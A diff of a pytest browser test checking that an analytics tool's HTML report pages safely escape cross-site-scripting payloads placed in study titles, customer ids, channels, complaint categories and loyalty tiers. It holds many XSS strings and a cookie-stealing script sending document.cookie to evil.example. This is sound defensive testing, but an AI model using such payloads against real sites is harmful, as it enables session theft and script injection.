@@ -1,11 +1,12 @@
 """Report pages are safe to open whatever a study brings (issue 14, case 1), in a real browser.
 
 A small study whose every free-text field and data value is a script or an
-event-handler payload is run through the runner (notebooks 00, 01, 02 and 04 on
+event-handler payload is run through the runner (notebooks 00, 01, 02, 04 and 05 on
 600 simulated customers): the study title and description, customer ids,
 transaction and acquisition channels, the channel arms of the channel-outcomes
 CSV (one of them leaks the cookie to evil.example), the recency groups the lift
-is split by, column names and the control-arm parameter. Every page, opened from disk
+is split by, purchase categories, complaint categories and resolutions, loyalty
+tiers, column names and the control-arm parameter. Every page, opened from disk
 in Chromium, must open no dialog, raise no error (a script blocked by the policy
 would log one), request nothing outside the report folder, and carry no
 ``<script>`` but its own, no ``on*=`` attribute, no ``javascript:`` link and no
@@ -25,7 +26,7 @@ from browser_cases import NEEDS_CHROMIUM, Visit, browser  # noqa: F401 - browser
 
 pytestmark = [pytest.mark.slow, NEEDS_CHROMIUM]
 
-NOTEBOOKS = ("00_data_overview", "01_segmentation", "02_clv", "04_channel_comparison")
+NOTEBOOKS = ("00_data_overview", "01_segmentation", "02_clv", "04_channel_comparison", "05_retention_loyalty")
 LEAK = "<script>location.href='https://evil.example/leak?'+document.cookie</script>"
 SVG = "<svg onload=alert(1)>"
 ARMS = {"control": SVG, "email": LEAK, "email_discount": "<img src=x onerror=alert('arm')>"}
@@ -35,6 +36,10 @@ CHANNELS = {"store": "<script>alert('store')</script>", "web": "<img src=x onerr
 GROUPS = {"lapsed": "<b onmouseover=alert('grp')>lapsed</b>", "recent": "<style>*{display:none}</style>recent"}
 ID_COLUMN = "Kunde<script>alert('col')</script>"
 REGION_COLUMN = "<img src=x onerror=alert('region')>"
+CATEGORY = "<img src=x onerror=alert('category')>"  # prefixed to each purchase category
+COMPLAINT = "<script>alert('complaint')</script>"  # prefixed to each complaint category
+TIERS = {"base": "<b onclick=alert('tier')>base</b>", "silver": "[silver](javascript:alert('tier'))",
+         "gold": "<iframe src=javascript:alert('gold')>"}
 STUDY = {
     "name": "payload",
     "title": "<script>alert(1)</script>",
@@ -44,6 +49,8 @@ STUDY = {
         "transactions": {"path": "payload_data/transactions.csv", "columns": {"customer_id": ID_COLUMN}},
         "customers": {"path": "payload_data/customers.csv"},
         "channel_outcomes": {"path": "payload_data/channel_outcomes.csv"},
+        "complaints": {"path": "payload_data/complaints.csv"},
+        "memberships": {"path": "payload_data/memberships.csv"},
     },
     "notebooks": {
         "00_data_overview": {},
@@ -51,6 +58,8 @@ STUDY = {
                             "stability_sample": 300},
         "02_clv": {"models": ["BetaGeo"]},
         "04_channel_comparison": {"control_arm": SVG, "n_bootstrap": 10, "clv_horizon_weeks": 52},
+        "05_retention_loyalty": {"n_bootstrap": 10, "good_resolutions": ["<b>good</b>"],
+                                 "value_added_categories": [f"{CATEGORY}support plan"]},
     },
 }
 
@@ -61,7 +70,13 @@ def _payload_tables() -> dict:
     tables = load_dataset("service_demo", n_customers=600, seed=7)
     ids = {c: f"{c}<img src=x onerror=alert('id')>" for c in tables["customers"]["customer_id"]}
     tx = tables["transactions"].assign(customer_id=lambda d: d["customer_id"].map(ids),
-                                       channel=lambda d: d["channel"].map(CHANNELS))
+                                       channel=lambda d: d["channel"].map(CHANNELS),
+                                       category=lambda d: CATEGORY + d["category"].astype(str))
+    complaints = tables["complaints"].assign(
+        customer_id=lambda d: d["customer_id"].map(ids), category=lambda d: COMPLAINT + d["category"].astype(str),
+        channel=lambda d: d["channel"].map(CHANNELS), resolution=lambda d: "<b>" + d["resolution"] + "</b>")
+    memberships = tables["memberships"].assign(customer_id=lambda d: d["customer_id"].map(ids),
+                                               tier=lambda d: d["tier"].map(TIERS))
     customers = tables["customers"].assign(customer_id=lambda d: d["customer_id"].map(ids),
                                            acquisition_channel=lambda d: d["acquisition_channel"].map(CHANNELS))
     outcomes = tables["channel_outcomes"].assign(
@@ -70,7 +85,7 @@ def _payload_tables() -> dict:
         recency_group=lambda d: d["recency_group"].map(GROUPS))
     return {"transactions": tx.rename(columns={"customer_id": ID_COLUMN}),
             "customers": customers.rename(columns={"region": REGION_COLUMN}),
-            "channel_outcomes": outcomes}
+            "channel_outcomes": outcomes, "complaints": complaints, "memberships": memberships}
 
 
 @pytest.fixture(scope="module")
@@ -126,6 +141,8 @@ def test_notebook_page_runs_nothing_the_study_brought(browser, site, notebook):
         assert re.search(r"C\d{5}<img src=x onerror=alert\('id'\)>", text)  # customer ids, largest customers
     if notebook == "04_channel_comparison":
         assert "<script>location.href=" in text and SVG in text  # arm names in the sentences and tables
+    if notebook == "05_retention_loyalty":
+        assert COMPLAINT in text and CATEGORY in text  # complaint and purchase categories, as text
     button = page.locator("#toggle-code")  # the page's own script still works
     button.click()
     assert button.inner_text() == "Hide code"
